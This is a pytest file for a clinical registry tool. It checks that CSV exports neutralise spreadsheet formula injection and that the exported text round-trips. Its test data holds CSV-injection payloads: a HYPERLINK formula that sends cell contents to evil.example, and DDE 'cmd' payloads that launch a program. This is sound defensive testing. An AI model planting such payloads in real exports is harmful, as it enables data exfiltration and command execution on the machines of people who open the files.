"""Issue 11 item 3: CSV exports must not carry spreadsheet formulas (OWASP CSV injection): text cells starting
with = + - @ TAB or CR are prefixed with an apostrophe; numbers, negative ones included, stay numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json

import pytest

from rarebone.report.csv_safe import restore_cell, safe_cell
from tests.conftest import ROOT, run_cli

FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _leaks(cells) -> list[str]:
    return [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not _is_number(c)]


def _is_number(text: str) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False


@pytest.mark.parametrize("formula", FORMULAS)
def test_formula_text_is_neutralised_and_restored(formula):
    cell = safe_cell(formula)
    assert cell == "'" + formula
    assert restore_cell(cell) == formula


@pytest.mark.parametrize("number", [-5, -0.25, 3, 1.5, "-5", "-0.25", "+3", "1.5e-3", "-12"])
def test_numbers_negative_included_stay_numbers(number):
    assert safe_cell(number) == number


@pytest.mark.parametrize("text", ["vod@12", "Flu/Bu/Cy+ATG", "note pt 1", "", "it's fine"])
def test_ordinary_text_is_unchanged(text):
    assert safe_cell(text) == text and restore_cell(text) == text


def test_a_leading_apostrophe_survives_the_round_trip():
    for text in ("'=1", "''", "'-x"):
        assert restore_cell(safe_cell(text)) == text


def _record(key: str) -> dict:
    return {"patient": {"patient_key": key, "sex": "male", "vital_status": "dead", "cause_of_death": FORMULAS[1],
                        "notes": FORMULAS[0], "diagnosis": "MIOP"},
            "transplants": [{"conditioning": FORMULAS[3], "transplant_date": "2020-01-01"}],
            "complications": [{"kind": FORMULAS[2], "day": -3.0}], "phenotypes": [], "lesions": []}


def test_registry_export_neutralises_notes_cause_of_death_conditioning_complications():
    from rarebone.registry import export

    text = export.to_csv([_record("=P1")])
    rows = list(csv.reader(io.StringIO(text)))
    header, row = rows[0], rows[1]
    assert _leaks(row) == [], row
    cells = dict(zip(header, row))
    assert cells["notes"] == "'" + FORMULAS[0] and cells["patient_key"] == "'=P1"
    assert cells["cause_of_death"].startswith("'+") and cells["transplant.conditioning"].startswith("'@")
    assert cells["complications"].startswith("'-2+3")


def test_registry_csv_round_trip_keeps_the_original_text(tmp_path):
    from rarebone.registry import db, export, importers, store

    engine = db.open_registry(f"sqlite:///{tmp_path / 'r.sqlite'}", create=True)
    record = {"patient": {"patient_key": "P-1", "sex": "male", "vital_status": "dead",
                          "cause_of_death": "=1+1", "notes": "@SUM(A1)", "diagnosis": "MIOP"},
              "transplants": [{"conditioning": "+Flu/Bu", "transplant_date": dt.date(2020, 1, 1)}]}
    summary = store.import_records(engine, [("test", record)])
    assert summary.rejected == [], summary.rejected
    flat = tmp_path / "flat.csv"
    flat.write_text(export.to_csv(export.iter_records(engine)))
    other = db.open_registry(f"sqlite:///{tmp_path / 'copy.sqlite'}", create=True)
    assert store.import_records(other, importers.dictionary_csv_items(flat)).rejected == []
    back = next(export.iter_records(other))["patient"]
    assert (back["cause_of_death"], back["notes"]) == ("=1+1", "@SUM(A1)")
    assert export.to_csv(export.iter_records(other)) == flat.read_text()
    engine.dispose()
    other.dispose()


def test_plan_csv_neutralises_a_formula_in_the_patient_id(tmp_path):
    data = json.loads((ROOT / "examples/transplant/tcirg1-infant-plan.json").read_text())
    data["subject"]["id"] = "=HYPERLINK(\"http://evil.example\",\"x\")"
    child = tmp_path / "child.json"
    child.write_text(json.dumps(data))
    r = run_cli("plan", str(child), "--protocol", "beijing-haplo", "--day0", "2027-01-15", "--format", "csv")
    assert r.returncode == 0, r.stderr
    rows = list(csv.reader(io.StringIO(r.stdout)))
    assert len(rows) > 2
    for row in rows[1:]:
        assert row[0] == "'" + data["subject"]["id"]
        assert _leaks(row) == [], row
